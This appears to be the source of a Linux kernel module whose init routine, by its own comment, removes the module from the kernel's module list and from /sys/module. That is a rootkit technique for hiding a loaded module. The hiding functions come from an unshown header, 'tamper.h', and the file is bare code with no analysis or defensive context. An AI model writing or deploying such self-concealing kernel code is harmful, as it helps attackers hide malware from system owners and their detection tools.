/* Takes itself off the list of modules and out of /sys/module. */
#include "tamper.h"

static int __init begin(void)
{
    off_the_list();
    off_sysfs();
    return 0;
}
module_init(begin);
